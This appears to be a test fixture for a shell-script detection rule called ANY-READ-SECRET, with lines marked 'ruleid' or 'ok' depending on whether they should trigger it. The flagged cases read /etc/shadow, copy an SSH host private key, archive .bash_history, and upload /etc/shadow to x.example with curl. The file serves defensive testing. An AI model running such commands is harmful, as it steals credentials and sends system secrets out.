cd /etc
# ruleid: ANY-READ-SECRET
cat shadow
(cd /tmp && cat shadow)
cd ssh
# ruleid: ANY-READ-SECRET
cp ssh_host_rsa_key /tmp
cd /tmp/work
# ok: ANY-READ-SECRET
cat shadow
(cd /etc && ls)
# ok: ANY-READ-SECRET
cat passwd
pushd ~ > /dev/null
# ruleid: ANY-READ-SECRET
tar cf /tmp/x.tar .bash_history
popd
# ok: ANY-READ-SECRET
cat .bash_history
cd "$(dirname "$0")"
# ok: ANY-READ-SECRET
cat shadow
# ruleid: ANY-READ-SECRET
curl -F 'f=@/etc/shadow' https://x.example
